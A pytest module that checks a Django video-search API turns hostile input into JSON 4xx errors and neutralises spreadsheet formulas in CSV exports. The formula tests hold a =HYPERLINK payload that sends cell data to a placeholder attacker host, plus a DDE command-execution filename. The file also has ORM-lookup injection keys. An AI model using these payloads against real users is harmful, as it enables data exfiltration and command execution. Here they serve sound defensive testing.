"""Hostile input on the API surfaces: each case is a 4xx `{code, message}`, never a 500 or an HTML page.

Non-finite numbers, NUL characters, over-long strings and URLs, metadata filter keys
that would be ORM lookups, an image search on an empty visual index, spreadsheet
formulas in CSV exports, and JSON errors (404, 405, 413, 429, 500) under every API
prefix with DEBUG on and off. CI runs this module on PostgreSQL, where NUL and
over-long values fail in the database rather than passing silently as on SQLite.
"""

# The search-corpus fixtures are imported, so test arguments shadow the imports.
# ruff: noqa: F811
from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client, RequestFactory
from PIL import Image
from rest_framework import exceptions as drf
from rest_framework.test import APIClient
from rest_framework.views import APIView

from core.errors import ApplicationError
from core.middleware import ApiBoundaryMiddleware
from library import services
from library.models import Index, Task, Video
from taxonomy import label_services
from taxonomy import services as taxonomy_services
from taxonomy.models import TaxonomyNode
from taxonomy.params import ClassSpec
from tests.api_checks import Library, assert_error
from tests.factories import SYSTEM, IndexFactory
from tests.library.search_corpus import tiny_clip_model, with_clip  # noqa: F401

pytestmark = pytest.mark.django_db

PREFIXES = ("/v1.1", "/v1.2", "/api/v1")
MARENGO = {"engine_name": "marengo2.6", "engine_options": ["visual", "conversation"]}


def video_path(lib: Library) -> str:
    return f"/v1.2/indexes/{lib.index.id}/videos/{lib.video.id}"


def raw(api: APIClient, method: str, path: str, text: str) -> Any:
    return api.generic(method, path, text, content_type="application/json")


# --- Non-finite numbers -----------------------------------------------------------------


@pytest.mark.parametrize("number", ["1e999", "-1e999", "NaN", "Infinity", "-Infinity"])
def test_non_finite_metadata_is_refused_and_the_list_still_renders(api: APIClient, library: Library, number: str):
    response = raw(api, "PUT", video_path(library), f'{{"metadata": {{"x": {number}}}}}')
    assert_error(response, 400, "parameter_invalid")
    library.video.refresh_from_db()
    assert library.video.user_metadata == {}
    listing = api.get(f"/v1.2/indexes/{library.index.id}/videos")
    assert listing.status_code == 200
    assert [row["_id"] for row in listing.json()["data"]] == [library.video.id]


def test_the_metadata_service_refuses_what_json_cannot_hold(library: Library):
    for value in (float("inf"), float("-inf"), float("nan"), 2**70, "a\x00b", "x" * 2001, ["a"], {"b": 1}, None):
        with pytest.raises(ApplicationError):
            services.video_update(actor=SYSTEM, video=library.video, metadata={"x": value})
    library.video.refresh_from_db()
    assert library.video.user_metadata == {}


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/v1.2/search", '{"index_id": "%(index)s", "query": "pasta", "search_options": ["conversation"], '
                         '"adjust_confidence_level": 1e999}'),
        ("/v1.2/search", '{"index_id": "%(index)s", "query": "pasta", "search_options": ["conversation"], '
                         '"filter": {"duration": {"gte": -Infinity}}}'),
        ("/api/v1/search/", '{"query": "pasta", "search_options": ["conversation"], "page_limit": 1e400}'),
        ("/v1.2/classify/bulk", '{"index_id": "%(index)s", "options": ["conversation"], "threshold": NaN, '
                                '"classes": [{"name": "a", "prompts": ["b"]}]}'),
        ("/v1.2/summarize", '{"video_id": "%(video)s", "type": "summary", "temperature": 1e999}'),
        ("/api/v1/classification-runs/", '{"taxonomy": 1, "index": "%(index)s", "options": ["conversation"], '
                                         '"threshold": Infinity}'),
    ],
)  # fmt: skip
def test_non_finite_numbers_are_refused_in_every_body(api: APIClient, library: Library, path: str, body: str):
    text = body % {"index": library.index.id, "video": library.video.id}
    assert_error(raw(api, "POST", path, text), 400, "parameter_invalid")


# --- NUL characters ---------------------------------------------------------------------


def test_nul_in_a_json_value_or_key_is_refused_and_nothing_is_written(api: APIClient, library: Library):
    created = api.post("/v1.2/indexes", {"index_name": "a\x00b", "engines": [MARENGO]}, format="json")
    assert_error(created, 400, "parameter_invalid")
    assert not Index.objects.filter(name__startswith="a").exists()
    for metadata in ({"k": "a\x00"}, {"k\x00": "a"}, {"k": ["\x00"]}):
        assert_error(api.put(video_path(library), {"metadata": metadata}, format="json"), 400, "parameter_invalid")
    assert_error(api.put(video_path(library), {"video_title": "\x00"}, format="json"), 400, "parameter_invalid")
    native = api.post("/api/v1/taxonomies/", {"name": "t", "classes": [{"name": "c\x00", "prompts": ["p"]}]},
                      format="json")  # fmt: skip
    assert_error(native, 400, "parameter_invalid")
    library.video.refresh_from_db()
    assert (library.video.title, library.video.user_metadata) == ("", {})


@pytest.mark.parametrize(
    "path",
    [
        "/v1.2/indexes?index_name=a%00",
        "/v1.2/indexes?a%00=1",
        "/v1.2/tasks?filename=%00",
        "/v1.1/tasks/status?index_id=%00",
        "/v1.2/indexes/{index}/videos?_id=x%00",
        "/api/v1/labels/?video=%00",
        "/api/v1/videos/?index=%00",
        "/api/v1/indexes/a%00b/",
        "/api/v1/videos/%00/extraction/",
        "/v1.2/indexes/a%00b",
        "/v1.2/search/%00",
    ],
)
def test_nul_in_a_path_or_query_parameter_is_refused(api: APIClient, library: Library, path: str):
    assert_error(api.get(path.format(index=library.index.id)), 400, "parameter_invalid")


@pytest.mark.parametrize("form_format", ["multipart", "urlencoded"])
def test_nul_in_form_fields_is_refused(api: APIClient, library: Library, form_format: str):
    fields = {"index_id": library.index.id, "video_url": "http://127.0.0.1:9/a\x00.mp4"}
    if form_format == "multipart":
        response = api.post("/v1.2/tasks", fields)
    else:
        from urllib.parse import urlencode

        response = api.generic(
            "POST", "/v1.2/tasks", urlencode(fields), content_type="application/x-www-form-urlencoded"
        )
    assert_error(response, 400, "parameter_invalid")
    search = api.post("/v1.2/search-v2", {"index_id": f"{library.index.id}\x00", "query_text": "a",
                                          "search_options": ["conversation"]})  # fmt: skip
    assert_error(search, 400, "parameter_invalid")
    assert Task.objects.filter(index=library.index).count() == 1


# --- Over-long strings and URLs ---------------------------------------------------------


def test_over_long_urls_are_refused_on_every_task_route(api: APIClient, library: Library):
    long_url = "http://127.0.0.1:9/" + "a" * 2000 + ".mp4"
    index_id = library.index.id
    for path, body in (
        ("/v1.2/tasks", {"index_id": index_id, "video_url": long_url}),
        ("/v1.2/tasks/external-provider", {"index_id": index_id, "url": long_url}),
        ("/api/v1/tasks/", {"index": index_id, "video_url": long_url}),
    ):
        assert_error(api.post(path, body, format="json"), 400, "parameter_invalid")
    assert Task.objects.filter(index=library.index).count() == 1


def test_a_url_with_a_long_file_name_keeps_a_name_that_fits(api: APIClient, library: Library, settings: Any):
    settings.FRAMEWISE_OUTBOUND_ALLOW = ["127.0.0.0/8"]  # nothing listens on port 9: only the name matters
    url = "http://127.0.0.1:9/" + "n" * 900 + ".mp4"
    created = api.post("/v1.2/tasks/external-provider", {"index_id": library.index.id, "url": url}, format="json")
    assert created.status_code == 201, created.content
    task = Task.objects.get(id=created.json()["_id"])
    assert len(task.filename) == 500 and task.filename.endswith(".mp4")
    assert task.source_url == url


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("post", "/v1.2/indexes", {"index_name": "x" * 201, "engines": [MARENGO]}),
        ("put", "{video}", {"video_title": "x" * 501}),
        ("put", "{video}", {"metadata": {"k" * 65: 1}}),
        ("put", "{video}", {"metadata": {"k": "v" * 2001}}),
        ("post", "/v1.2/tasks", {"index_id": "{index}", "video_url": "http://h/a.mp4", "language": "e" * 11}),
        ("post", "/v1.2/search", {"index_id": "{index}", "query": "q" * 5000, "search_options": ["conversation"]}),
        ("post", "/api/v1/indexes/", {"name": "x" * 201, "engines": [MARENGO]}),
        ("post", "/api/v1/taxonomies/", {"name": "x" * 201, "classes": [{"name": "c", "prompts": ["p"]}]}),
        ("post", "/api/v1/taxonomies/", {"name": "t", "classes": [{"name": "c" * 301, "prompts": ["p"]}]}),
        ("post", "/api/v1/videos/{video_id}/generations/", {"kind": "text", "prompt": "p" * 2001}),
    ],
)
def test_over_long_strings_are_json_400s(api: APIClient, library: Library, method: str, path: str, body: dict):
    ids = {"video": video_path(library), "index": library.index.id, "video_id": library.video.id}
    filled = json.loads(json.dumps(body).replace("{index}", ids["index"]))
    response = getattr(api, method)(path.format(**ids), filled, format="json")
    assert 400 <= response.status_code < 500, response.content
    assert set(response.json()) == {"code", "message"}
    assert Index.objects.filter(team=api.team).count() == 1  # type: ignore[attr-defined]
    library.video.refresh_from_db()
    assert (library.video.title, library.video.user_metadata) == ("", {})


def test_over_long_query_parameters_match_nothing(api: APIClient, library: Library):
    for path in ("/v1.2/tasks?filename=", "/v1.2/indexes?index_name=", f"/v1.2/indexes/{library.index.id}/videos?_id="):
        response = api.get(path + "x" * 5000)
        assert response.status_code == 200, response.content
        assert response.json()["data"] == []


# --- Metadata filter keys -----------------------------------------------------------------


def search(api: APIClient, index_id: str, search_filter: Any) -> Any:
    body = {"index_id": index_id, "query": "pasta", "search_options": ["conversation"], "filter": search_filter}
    return api.post("/v1.2/search", body, format="json")


@pytest.mark.parametrize(
    "search_filter",
    [
        {"a__regex": ".*"},
        {"a__contains": "x"},
        {"a__0": 1},
        {"views__gte": 1},
        {"": 1},
        {"k" * 65: 1},
        {"a;drop": 1},
        {"a\nb": 1},
        {"width": 2**70},
    ],
)
def test_a_filter_key_that_is_not_a_plain_name_is_refused(api: APIClient, library: Library, search_filter: dict):
    assert_error(search(api, library.index.id, search_filter), 400, "parameter_invalid")
    native = {"query": "pasta", "search_options": ["conversation"], "filter": search_filter}
    assert_error(api.post("/api/v1/search/", native, format="json"), 400, "parameter_invalid")


def test_plain_metadata_keys_filter_as_before(api: APIClient, library: Library):
    assert (
        api.put(video_path(library), {"metadata": {"views": 10, "my key.v-2": "a"}}, format="json").status_code == 204
    )
    for search_filter in ({"views": {"gte": 5}}, {"my key.v-2": "a"}, {"views": 10}):
        response = search(api, library.index.id, search_filter)
        assert response.status_code == 200, response.content
    assert_error(api.put(video_path(library), {"metadata": {"a__regex": 1}}, format="json"), 400, "parameter_invalid")


# --- Image search on an empty visual index ------------------------------------------------


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.parametrize("indexing_video", [False, True], ids=["empty", "only-indexing"])
def test_an_image_search_on_a_visual_index_without_ready_videos_is_an_empty_answer(
    api: APIClient, with_clip: Any, indexing_video: bool
):
    index = IndexFactory(team=api.team, engines=[{"engine_name": "marengo2.6", "engine_options": ["visual"]}])  # type: ignore[attr-defined]
    if indexing_video:  # rows exist, but nothing is searchable yet
        Video.objects.create(index=index, file="videos/x.mp4", filename="x.mp4", sha256="2" * 64, duration=5,
                             fps=25, width=640, height=360, size=1)  # fmt: skip
    response = api.post("/v1.2/search-v2", {"index_id": index.id, "query_media_type": "image",
                                            "search_options": ["visual"],
                                            "query_media_file": SimpleUploadedFile("q.png", png())})  # fmt: skip
    assert response.status_code == 200, response.content
    assert response.json()["data"] == []
    assert response.json()["search_pool"]["total_count"] == 0


def test_an_image_search_without_a_visual_model_is_a_json_400(
    no_visual_model: None, quiet_client: APIClient, api: APIClient
):
    index = IndexFactory(team=api.team, engines=[{"engine_name": "marengo2.6", "engine_options": ["visual"]}])  # type: ignore[attr-defined]
    fields = {"index_id": index.id, "query_media_type": "image", "search_options": ["visual"],
              "query_media_file": SimpleUploadedFile("q.png", png())}  # fmt: skip
    response = quiet_client.post("/v1.2/search-v2", fields)
    assert_error(response, 400, "visual_model_unavailable")


# --- CSV exports --------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


@pytest.fixture
def formula_labels(api: APIClient, library: Library) -> list[TaxonomyNode]:
    library.video.filename = "=cmd|' /C calc'!A0.mp4"
    library.video.save(update_fields=["filename"])
    taxonomy = taxonomy_services.taxonomy_save_classes(
        actor=SYSTEM,
        team=api.team,  # type: ignore[attr-defined]
        name="@evil",
        classes=[ClassSpec(name=name, prompts=("p",), options=()) for name in FORMULAS],
    )
    nodes = list(taxonomy.nodes.order_by("path"))
    for node in nodes:
        label_services.label_add(actor=SYSTEM, video=library.video, node=node)
    return nodes


def assert_safe(rows: list[dict[str, str]]) -> None:
    assert sorted(row["node_name"] for row in rows) == sorted("'" + name for name in FORMULAS)
    for row in rows:
        assert row["filename"] == "'=cmd|' /C calc'!A0.mp4"
        assert row["taxonomy"] == "'@evil"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_api_csv_export_neutralises_formulas(api: APIClient, library: Library, formula_labels: list):
    response = api.get("/api/v1/labels/export/", {"index": library.index.id, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert_safe(list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))))
    as_json = json.loads(b"".join(api.get("/api/v1/labels/export/", {"index": library.index.id}).streaming_content))
    assert sorted(row["node_name"] for row in as_json["labels"]) == sorted(FORMULAS)  # JSON keeps the data as is


def test_the_page_csv_export_neutralises_formulas(api: APIClient, library: Library, formula_labels: list):
    client = Client()
    client.force_login(api.team.memberships.first().user)  # type: ignore[attr-defined]
    response = client.get("/classification/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert_safe(list(csv.DictReader(io.StringIO(text))))


def test_options_on_the_csv_export_describes_it_as_json(api: APIClient):
    response = api.options("/api/v1/labels/export/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response.json()["name"]


# --- JSON errors under every API prefix, DEBUG on and off -------------------------------


@pytest.fixture(params=[False, True], ids=["debug-off", "debug-on"])
def debug(request: pytest.FixtureRequest, settings: Any) -> bool:
    settings.DEBUG = request.param
    return request.param


@pytest.fixture
def quiet_client(team_key: tuple[Any, str]) -> APIClient:
    """A client that receives the 500 response instead of re-raising the view's exception."""
    client = APIClient(raise_request_exception=False)
    client.credentials(HTTP_X_API_KEY=team_key[1])
    return client


def assert_no_traceback(response: Any) -> None:
    text = response.content.decode()
    assert "Traceback" not in text and "boom" not in text and "<html" not in text.lower()


@pytest.mark.parametrize("prefix", PREFIXES)
def test_unknown_paths_are_json_404s(api: APIClient, debug: bool, prefix: str):
    for path in (f"{prefix}/no-such-endpoint", f"{prefix}/no-such-endpoint/", f"{prefix}/indexes/x/y/z/w"):
        for method in ("get", "post", "delete"):
            response = getattr(api, method)(path)
            assert_error(response, 404, "resource_not_exist")
            assert_no_traceback(response)
    assert_error(APIClient().get(f"{prefix}/no-such-endpoint"), 404, "resource_not_exist")


@pytest.mark.parametrize(("prefix", "path"), [("/v1.1", "/engines"), ("/v1.2", "/tasks/status"),
                                              ("/api/v1", "/indexes/")])  # fmt: skip
def test_wrong_methods_are_json_405s(api: APIClient, debug: bool, prefix: str, path: str):
    response = api.delete(prefix + path)
    assert_error(response, 405, "method_not_allowed")
    assert "GET" in response["Allow"]


@pytest.mark.parametrize(("prefix", "path"), [("/v1.1", "/engines"), ("/v1.2", "/indexes"),
                                              ("/api/v1", "/indexes/")])  # fmt: skip
def test_an_unexpected_error_is_a_json_500_without_a_traceback(
    quiet_client: APIClient, debug: bool, prefix: str, path: str, monkeypatch: pytest.MonkeyPatch
):
    def explode(self: APIView, request: Any, *args: Any, **kwargs: Any) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(APIView, "initial", explode)
    response = quiet_client.get(prefix + path)
    assert_error(response, 500, "internal_error")
    assert_no_traceback(response)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_throttled_request_is_a_json_429_with_retry_after(
    api: APIClient, debug: bool, prefix: str, monkeypatch: pytest.MonkeyPatch
):
    def throttled(self: APIView, request: Any, *args: Any, **kwargs: Any) -> None:
        raise drf.Throttled(wait=2.5)

    monkeypatch.setattr(APIView, "initial", throttled)
    response = api.get(f"{prefix}/indexes" + ("/" if prefix == "/api/v1" else ""))
    assert_error(response, 429, "too_many_requests")
    assert int(response["Retry-After"]) >= 3


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_body_over_the_size_limit_is_a_json_413(api: APIClient, debug: bool, prefix: str, settings: Any):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    path = {"/api/v1": "/api/v1/tasks/"}.get(prefix, f"{prefix}/tasks")
    response = api.post(path, {"index_id": "x", "index": "x", "video_url": "http://h/" + "a" * 5000})
    assert_error(response, 413, "request_too_large")


@pytest.mark.parametrize(
    ("status", "code"), [(413, "request_too_large"), (429, "too_many_requests"), (503, "internal_error")]
)
def test_an_error_page_from_another_middleware_becomes_json_on_api_paths(status: int, code: str):
    def html_error(request: Any) -> HttpResponse:
        return HttpResponse("<h1>nope</h1>", status=status, headers={"Retry-After": "9"})

    middleware = ApiBoundaryMiddleware(html_error)
    for path in ("/v1.2/indexes", "/v1.1/tasks", "/api/v1/indexes/"):
        response = middleware(RequestFactory().get(path))
        assert_error(response, status, code)
        assert response["Retry-After"] == "9"
    page = middleware(RequestFactory().get("/indexes/abc/"))
    assert page["Content-Type"].startswith("text/html") and page.status_code == status


def test_pages_keep_html_error_pages(client: Client, debug: bool):
    for path in ("/no-such-page/", "/v1.4/indexes", "/apix/v1/"):
        response = client.get(path)
        assert response.status_code == 404
        assert response["Content-Type"].startswith("text/html")
